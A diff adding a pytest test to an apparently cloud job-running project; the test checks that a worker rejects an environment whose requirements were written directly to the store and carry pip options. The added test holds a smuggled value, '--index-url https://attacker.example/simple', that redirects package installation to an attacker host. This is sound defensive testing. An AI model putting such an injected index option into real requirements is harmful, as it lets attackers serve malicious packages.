@@ -75,3 +75,20 @@ def test_a_build_failure_is_a_job_error_with_the_build_log(cloud, mode) -> None:
         assert "environment 'broken'" in text and "no-such-package-picloud-test" in text
     cloud.environment.delete("broken")
     assert "broken" not in [e["name"] for e in cloud.environment.list_envs()]
+
+
+def test_a_record_written_around_create_is_refused_on_the_worker(cloud, mode) -> None:  # type: ignore[no-untyped-def]
+    """A tenant can write its records through the store's API directly: the worker checks
+    the requirements again and fails the jobs, naming the line, before uv sees them."""
+    if mode == "simulator":
+        return  # nothing is built on the simulator
+    import json
+
+    from picloud_compat.client.session import get_client
+
+    client = get_client()
+    sneaky = json.dumps(["--index-url https://attacker.example/simple", "six"])
+    client.store.save_record(client.tenant, "env", "sneaky", {"requirements": sneaky}, b"", True)
+    jid = cloud.call(_interpreter, _env="sneaky")
+    with pytest.raises(cloud.CloudException, match="pip options are not accepted"):
+        cloud.result(jid, timeout=120)
